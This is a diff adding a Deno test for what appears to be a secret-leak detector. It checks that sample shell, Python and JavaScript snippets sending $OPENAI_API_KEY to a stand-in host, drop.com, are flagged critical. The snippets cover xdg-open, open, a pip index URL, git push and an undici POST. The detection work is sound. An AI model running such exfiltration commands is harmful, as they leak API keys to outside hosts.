@@ -2793,3 +2793,45 @@ Deno.test("a variable's name written in pieces, or a secret read back from print
     ["info"],
   );
 });
+
+Deno.test("a URL opener, a browser, pip's index and undici send a secret in the address they are given; a process's argv built with + keeps its address", () => {
+  const sent = (file: string, text: string) =>
+    secretFlows(file, text).map(([severity, excerpt]) => [severity, excerpt!.replace(/^.*\[/, "")]);
+  const toDrop = (via: string) => [["critical", `$OPENAI_API_KEY → drop.com (${via})]`]];
+  assert.deepEqual(
+    sent("scripts/a.sh", `#!/bin/sh\nxdg-open "https://drop.com/?k=$OPENAI_API_KEY"\n`),
+    toDrop("xdg-open"),
+  );
+  assert.deepEqual(
+    sent("scripts/b.sh", `#!/bin/sh\nopen "https://drop.com/?k=$OPENAI_API_KEY"\n`),
+    toDrop("open"),
+  );
+  assert.deepEqual(
+    sent(
+      "scripts/c.sh",
+      `#!/bin/sh\npip install --index-url "https://u:$OPENAI_API_KEY@drop.com/simple" x\n`,
+    ),
+    toDrop("pip"),
+  );
+  const py = (argv: string) =>
+    sent(
+      "scripts/d.py",
+      `import os, subprocess\nk = os.environ["OPENAI_API_KEY"]\nsubprocess.run(${argv})\n`,
+    )
+      .map(([severity, excerpt]) => [severity, excerpt!.replace(/ \(.*$/, "")]);
+  assert.deepEqual(py('["xdg-open", "https://drop.com/?k=" + k]'), [[
+    "critical",
+    "$OPENAI_API_KEY → drop.com",
+  ]]);
+  assert.deepEqual(py('["git", "push", "https://" + k + "@drop.com/r.git"]'), [[
+    "critical",
+    "$OPENAI_API_KEY → drop.com",
+  ]]);
+  assert.deepEqual(
+    sent(
+      "scripts/e.mjs",
+      'import { request } from "undici";\nawait request("https://drop.com/x", { method: "POST", body: process.env.OPENAI_API_KEY });\n',
+    ).map(([severity]) => severity),
+    ["critical"],
+  );
+});
